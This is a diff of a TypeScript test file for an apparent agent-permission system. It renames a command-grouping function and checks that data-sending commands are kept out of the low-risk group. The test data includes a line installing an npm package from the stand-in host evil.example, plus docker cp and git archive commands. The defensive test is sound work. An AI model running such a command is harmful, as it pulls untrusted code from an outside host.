@@ -1,6 +1,6 @@
 /** /pending: riskiest and oldest first, low-risk changes in one list, alike questions on one card. */
 import { describe, expect, it } from 'vitest';
-import { sortOf } from '../../governor/command-sort.ts';
+import { commandGroupOf } from '../../governor/command-group.ts';
 import { permissionsOf, permissionQuestionOf, type Run } from '#run';
 import { replayRuns } from '../../orchestrator/audit/replay.ts';
 import { askingRun, asks } from '../support/asking-run.ts';
@@ -200,8 +200,8 @@ describe('alike questions of several agents', () => {
       ],
       ...['npm install git+ssh://evil.example/x', 'docker cp a b', 'git archive main', 'hub pr list'],
     ];
-    expect(sending.filter((command) => sortOf(command, []) !== null)).toEqual([]);
-    expect(sortOf('npm install left-pad', [])?.words).toBe('npm install');
-    expect(sortOf('gem install rake', [])?.words).toBe('gem install');
+    expect(sending.filter((command) => commandGroupOf(command, []) !== null)).toEqual([]);
+    expect(commandGroupOf('npm install left-pad', [])?.words).toBe('npm install');
+    expect(commandGroupOf('gem install rake', [])?.words).toBe('gem install');
   });
 });
